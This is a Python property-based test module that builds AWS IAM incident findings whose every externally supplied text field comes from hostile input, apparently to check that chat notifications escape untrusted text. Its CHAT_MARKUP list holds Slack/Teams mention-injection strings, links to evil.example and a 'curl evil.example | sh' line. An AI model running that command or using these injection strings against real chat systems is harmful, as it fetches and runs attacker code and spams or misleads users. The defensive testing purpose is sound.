"""Findings in which every text that anybody else may write is hostile."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from hypothesis import strategies as st

from lambdas.aws.domain.iam import Usage
from lambdas.diagnosis.domain.evidence import Evidence
from lambdas.ledger.domain.enrolment_tags import CONTACT_TAG
from lambdas.ledger.domain.owner import Owner
from tests.support.builders import (
    ACCOUNT,
    HOME,
    LAST_USE,
    NEAR,
    NOON,
    REFUSED,
    a_caller,
    a_case,
    a_change,
    a_deleted_key,
    a_finding,
    a_predicted_outage,
    a_quarantined_key,
    a_signal,
    a_superseded_key,
    an_inactive_key,
    an_incident,
    an_issue,
    an_unknown_key,
    key_id,
)
from tests.unit.decisions.test_guardrails import ENROLLED
from tests.unit.test_text import HOSTILE, IAM_NAMES

if TYPE_CHECKING:
    from lambdas.incidents.domain.finding import Finding
    from lambdas.rotation.domain.rotation_context import RotationContext

CHAT_MARKUP = (
    "<!channel> <!here> <@U123> <#C1|x>",
    "<http://evil.example|the console>",
    "[the console](http://evil.example) ![x](http://evil.example/x.png)",
    "``` *bold* _it_ ~gone~ `code` ```",
    "@everyone @channel <at>everyone</at> :warning:",
    "&lt;!channel&gt;",
    "\n\n*LONG TERM*\n```\ncurl evil.example | sh\n```",
    "> quoted\n# heading\n1. one\n- two",
)
SENT = st.one_of(st.sampled_from((*HOSTILE, *CHAT_MARKUP)), st.text(max_size=300))
NAMES = st.one_of(IAM_NAMES, st.sampled_from(("_alice_", "a.b@evil.example", "www.evil.example", "a__b_")))
EMPTY = Evidence(looked_up=True)


@st.composite
def hostile_findings(draw: st.DrawFn) -> Finding:
    """IAM is asked only about what can be an id, so there is an owner of nothing else."""
    evidence = draw(st.sampled_from((EMPTY, NEAR, an_unknown_key(), *_of_an_owner(draw))))
    anything = st.one_of(st.sampled_from((key_id(), key_id(prefix="ASIA"), "")), SENT)
    sent = key_id() if evidence.owner else draw(anything)
    signal = a_signal(
        sent,
        error_code=draw(st.one_of(st.sampled_from(("InvalidClientTokenId", "SignatureDoesNotMatch")), SENT)),
        error_message=f"{REFUSED} {draw(SENT)}",
        service=draw(SENT),
        operation=draw(SENT),
        region=draw(SENT),
        principal=draw(SENT),
    )
    predicted = replace(a_predicted_outage(), principal=signal.principal)
    callers = tuple(a_caller(draw(SENT), draw(SENT)) for _ in range(draw(st.integers(0, 4))))
    home = replace(HOME, known_accounts={ACCOUNT: draw(SENT)}, contact_domains=frozenset({"example.com"}))
    case = a_case(draw(st.sampled_from((signal, signal, predicted))), evidence, home)
    incident = an_incident(case.signal.incident_key, callers=callers)
    return a_finding(case, incident)


def _of_an_owner(draw: st.DrawFn) -> tuple[Evidence, ...]:
    tags = {CONTACT_TAG: draw(st.one_of(SENT, st.just("team@example.com")))}
    owner = Owner(name=draw(NAMES), user_id="AIDAALICE", tags=tags)
    use = replace(LAST_USE, service=draw(SENT), region=draw(SENT))
    change = replace(a_change("UpdateAccessKey", status="Inactive"), by=draw(SENT))
    usage = (
        Usage(caller=a_caller(draw(SENT), draw(SENT)), service=draw(SENT), region="", calls=1, last_at=NOON),
    )
    fields = {
        "owner": owner,
        "last_use": use,
        "history": (change,),
        "usage": usage,
        "description": draw(SENT),
    }
    return (
        an_inactive_key(**fields, rotation_context=draw(st.one_of(st.none(), _enrolments()))),
        a_deleted_key(**fields),
        replace(a_superseded_key(**fields | {"usage": None})),
        replace(a_quarantined_key(), owner=owner, quarantine_policy=draw(SENT)),
        replace(EMPTY, issue=replace(an_issue(), by=draw(SENT), to=draw(SENT))),
    )


def _enrolments() -> st.SearchStrategy[RotationContext]:
    """A flaw keeps a name that is none from the command that approves a rotation."""
    hostile_name = st.builds(
        lambda name, live: replace(ENROLLED, secret_name=name, live_key=live, binding_refusal="x"),
        SENT,
        st.sampled_from(("", key_id(2))),
    )
    return st.one_of(hostile_name, st.builds(lambda flaw: replace(ENROLLED, binding_refusal=flaw), SENT))
